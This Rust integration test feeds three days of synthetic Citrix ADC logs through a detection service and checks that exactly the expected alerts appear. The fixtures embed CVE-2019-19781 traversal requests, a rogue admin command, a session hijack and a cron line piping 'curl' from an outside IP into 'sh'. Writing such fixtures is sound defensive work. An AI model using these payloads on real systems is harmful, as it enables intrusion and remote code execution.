//! A three-appliance, three-day scenario through the real service: mostly benign traffic with the
//! attack chains of the rule pack embedded, and benign look-alikes. The alerts on `adc.alerts` must be
//! exactly the expected ones, and follow the alert schema.

#![allow(clippy::unwrap_used)] // a test, benchmark or example: failing loudly is the point

mod common;

use std::collections::BTreeSet;
use std::time::Duration;

use chrono::{DateTime, Duration as Span, Utc};
use common::*;

struct Scenario {
    lines: Vec<(String, String)>,
    expected: BTreeSet<(String, String)>,
}

fn scenario() -> Scenario {
    let start: DateTime<Utc> = "2020-01-10T00:00:00Z".parse().unwrap();
    let hosts = ["vpx-a", "vpx-b", "vpx-c"];
    let mut lines: Vec<Line> = Vec::new();
    let mut seq = 1000;
    let mut push = |line: Line| lines.push(line);
    // Benign: three days of logins, connections, portal requests and administration, every 20 minutes.
    for (h, host) in hosts.iter().enumerate() {
        for slot in 0..(3 * 24 * 3) {
            let at = start + Span::minutes(slot * 20 + h as i64);
            seq += 1;
            let user = format!("user{}", slot % 7);
            let session = 5000 + slot as u32;
            let client = if slot % 2 == 0 { "8.8.8.8" } else { "1.1.1.1" };
            push(audit(at, host, seq, "SSLVPN LOGIN", &format!("Context {user}@{client} - SessionId: {session} - User {user} - Client_ip {client} - Nat_ip 10.8.0.{} - Vserver 10.0.0.10:443", slot % 200)));
            push(access(at + Span::seconds(20), host, client, "GET", "/vpn/images/AccessGateway.ico", 200));
            push(access(at + Span::seconds(30), host, client, "GET", "/logon/LogonPoint/index.html", 200));
            push(access(at + Span::seconds(40), host, client, "GET", "/vpns/services.html", 200));
            push(audit(at + Span::seconds(50), host, seq + 1, "SSLVPN TCPCONNSTAT", &format!("Context {user}@{client} - SessionId: {session} - User {user} - Client_ip {client} - Nat_ip 10.8.0.1 - Vserver 10.0.0.10:443 - Source {client}:50000 - Destination 10.20.0.5:443 - Start_time \"01/10/2020:00:00:00 GMT\" - End_time \"01/10/2020:00:01:00 GMT\" - Duration 00:01:00  - Total_bytes_send 100 - Total_bytes_recv 200 - Total_compressedbytes_send 0 - Total_compressedbytes_recv 0 - Compression_ratio_send 0.00% - Compression_ratio_recv 0.00% - Access Allowed - Group(s) \"staff\"")));
            if slot % 12 == 0 {
                // Administrators, from the management network.
                push(audit(
                    at + Span::seconds(55),
                    host,
                    seq + 2,
                    "CLI CMD_EXECUTED",
                    "User nsroot - Remote_ip 10.0.0.5 - Command \"show ns config\" - Status \"Success\"",
                ));
            }
            if slot % 30 == 7 {
                // Legitimate root cron jobs.
                push(cron(at + Span::seconds(58), host, "root", "   nsfsyncd -p"));
            }
            seq += 3;
        }
    }
    let t =
        |d: i64, h: i64, m: i64, s: i64| start + Span::days(d) + Span::hours(h) + Span::minutes(m) + Span::seconds(s);
    // Look-alikes: one mistyped password, then a login.
    push(audit(
        t(1, 9, 0, 0),
        "vpx-b",
        1,
        "AAA LOGIN_FAILED",
        "User carol - Client_ip 8.8.8.8 - Failure_reason \"Username/Password mismatch\"",
    ));
    push(audit(t(1, 9, 0, 30), "vpx-b", 2, "SSLVPN LOGIN", "Context carol@8.8.8.8 - SessionId: 777 - User carol - Client_ip 8.8.8.8 - Nat_ip 10.8.0.9 - Vserver 10.0.0.10:443"));
    // vpx-a: the CVE-2019-19781 chain, then persistence and a brute force.
    push(access(t(1, 10, 0, 0), "vpx-a", "203.0.113.9", "GET", "/vpn/../vpns/cfg/smb.conf", 200));
    push(access(t(1, 10, 5, 0), "vpx-a", "203.0.113.9", "POST", "/vpn/../vpns/portal/scripts/newbm.pl", 200));
    push(access(t(1, 10, 6, 0), "vpx-a", "203.0.113.9", "GET", "/vpn/../vpns/portal/evil.xml", 200));
    push(cron(t(1, 10, 30, 0), "vpx-a", "nobody", "curl http://62.113.112.33/ci.sh | sh > /dev/null 2>&1"));
    for i in 0..12 {
        let at = t(2, 3, 0, i * 20);
        push(audit(
            at,
            "vpx-a",
            100 + i as u32,
            "AAA LOGIN_FAILED",
            "User admin - Client_ip 198.51.100.66 - Failure_reason \"Username/Password mismatch\"",
        ));
    }
    // vpx-b: only probed (404 through traversal).
    push(access(t(1, 11, 0, 0), "vpx-b", "203.0.113.10", "GET", "/vpn/%2e%2e/vpns/portal/x.xml", 404));
    // vpx-c: a command from outside the management networks, and a hijacked session.
    push(audit(
        t(2, 14, 0, 0),
        "vpx-c",
        1,
        "GUI CMD_EXECUTED",
        "User nsroot - Remote_ip 203.0.113.77 - Command \"add system user svc\" - Status \"Success\"",
    ));
    push(audit(t(2, 15, 0, 0), "vpx-c", 2, "SSLVPN LOGIN", "Context dave@8.8.8.8 - SessionId: 99999 - User dave - Client_ip 8.8.8.8 - Nat_ip 10.8.0.99 - Vserver 10.0.0.10:443"));
    push(audit(t(2, 17, 0, 0), "vpx-c", 3, "SSLVPN HTTPREQUEST", "Context dave@1.1.1.1 - SessionId: 99999 - 10.0.0.10 User dave : Group(s) staff : Vserver 10.0.0.10:443 - 01/12/2020:17:00:00 GMT : SSO is ON : GET /Citrix/StoreWeb/ - -"));
    lines.sort_by_key(|(at, _, _)| *at);
    let expected = [
        ("gw-citrix-cve-2019-19781-probe", "vpx-a"),
        ("gw-citrix-cve-2019-19781-probe", "vpx-b"),
        ("gw-citrix-cve-2019-19781-exploit-attempt", "vpx-a"),
        ("gw-citrix-cve-2019-19781-likely-success", "vpx-a"),
        ("gw-citrix-cve-2019-19781-post-exploitation", "vpx-a"),
        ("gw-ioc-match", "vpx-a"),
        ("gw-citrix-bruteforce", "vpx-a"),
        ("gw-citrix-admin-outside-management", "vpx-c"),
        ("gw-citrix-cve-2023-4966-session-hijack", "vpx-c"),
    ]
    .iter()
    .map(|(r, h)| (r.to_string(), h.to_string()))
    .collect();
    Scenario { lines: lines.into_iter().map(|(_, h, l)| (h, l)).collect(), expected }
}

#[test]
fn a_three_day_multi_appliance_scenario_yields_exactly_the_expected_alerts() {
    let s = scenario();
    assert!(s.lines.len() > 3000, "{} lines", s.lines.len());
    let broker = Broker::start();
    let topics = Topics::new("scenario");
    topics.create(&broker, 3);
    let geoip = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join(".tools/geoip");
    let feeds = tempfile::tempdir().unwrap();
    let feed = feeds.path().join("cert.csv");
    std::fs::write(&feed, "type,value,source\nipv4,62.113.112.33,CERT-Test\n").unwrap();
    let config = format!(
        "[enrich.geoip]\ncity_db = {:?}\nasn_db = {:?}\n[[enrich.ioc.feeds]]\nname = \"cert\"\npath = {:?}\nformat = \"csv\"\n",
        geoip.join("GeoLite2-City.mmdb"),
        geoip.join("GeoLite2-ASN.mmdb"),
        feed
    );
    let records: Vec<(Option<i32>, Option<String>, Vec<u8>)> =
        s.lines.iter().map(|(host, line)| (None, Some(host.clone()), line.clone().into_bytes())).collect();
    broker.produce(&topics.input, &records);
    let gw = Gatewatch::spawn_with_config(&broker, &topics, &[], Some(&config));
    let enriched = broker.read_all(&[&topics.enriched, &topics.dlq], records.len(), Duration::from_secs(120));
    assert_eq!(enriched.len(), records.len(), "every record processed; log:\n{}", gw.log_text());
    let alerts = broker.read(&topics.alerts, s.expected.len(), Duration::from_secs(30));
    let docs: Vec<serde_json::Value> = alerts.iter().map(Record::json).collect();
    let mut by_id = std::collections::BTreeMap::new();
    for (record, doc) in alerts.iter().zip(&docs) {
        // Alerts are keyed by their id; a suppression summary repeats an id.
        assert_eq!(record.key.as_deref(), doc["event"]["id"].as_str());
        by_id.insert(doc["event"]["id"].as_str().unwrap().to_owned(), doc.clone());
    }
    let got: BTreeSet<(String, String)> = by_id
        .values()
        .map(|d| {
            (d["rule"]["id"].as_str().unwrap().to_owned(), d["observer"]["hostname"].as_str().unwrap_or("?").to_owned())
        })
        .collect();
    assert_eq!(got, s.expected, "alerts: {}", serde_json::to_string_pretty(&docs).unwrap());
    assert_eq!(by_id.len(), s.expected.len(), "one alert per rule and appliance");

    // The alert schema.
    for d in by_id.values() {
        assert_eq!(d["event"]["kind"], "alert");
        assert!(d["event"]["severity"].as_u64().unwrap() > 0);
        assert!(d["event"]["created"].is_string() && d["@timestamp"].is_string());
        for key in ["id", "name", "version", "description"] {
            assert!(d["rule"][key].is_string(), "rule.{key} in {d}");
        }
        assert!(d["rule"]["reference"].is_array() && d["rule"]["author"].is_array());
        let stage = d["gatewatch"]["stage"].as_str().unwrap();
        assert!([
            "probe",
            "exploit-attempt",
            "exploit-success",
            "post-exploitation",
            "session-hijack",
            "ioc-match",
            "auth-abuse",
            "anomaly"
        ]
        .contains(&stage));
        let evidence = d["gatewatch"]["evidence"].as_array().unwrap();
        assert!(!evidence.is_empty());
        for e in evidence {
            assert_eq!(e["source"]["topic"], topics.input.as_str());
            assert!(e["source"]["offset"].is_i64() && e["original"].as_str().is_some_and(|o| !o.is_empty()));
        }
    }
    let rule = |id: &str| by_id.values().find(|d| d["rule"]["id"] == id).unwrap().clone();
    let success = rule("gw-citrix-cve-2019-19781-likely-success");
    assert_eq!(success["gatewatch"]["stage"], "exploit-success");
    assert_eq!(success["vulnerability"]["id"], serde_json::json!(["CVE-2019-19781"]));
    assert_eq!(success["gatewatch"]["evidence"].as_array().unwrap().len(), 2);
    assert_eq!(success["source"]["ip"], "203.0.113.9");
    assert_eq!(success["threat"]["technique"]["id"], serde_json::json!(["T1190"]));
    let ioc = rule("gw-ioc-match");
    assert_eq!(ioc["threat"]["enrichments"][0]["indicator"]["provider"], "CERT-Test");
    let hijack = rule("gw-citrix-cve-2023-4966-session-hijack");
    assert_eq!(hijack["gatewatch"]["group"]["citrix_adc.log.session_id"], "99999");
    let brute = rule("gw-citrix-bruteforce");
    assert_eq!(brute["user"]["name"], "admin");
    assert!(gw.metric("gatewatch_alerts_total{stage=\"exploit-success\"}") >= 1.0);
    assert!(gw.metric("gatewatch_rule_hits_total{rule=\"gw-citrix-cve-2019-19781-likely-success\"}") >= 1.0);
}
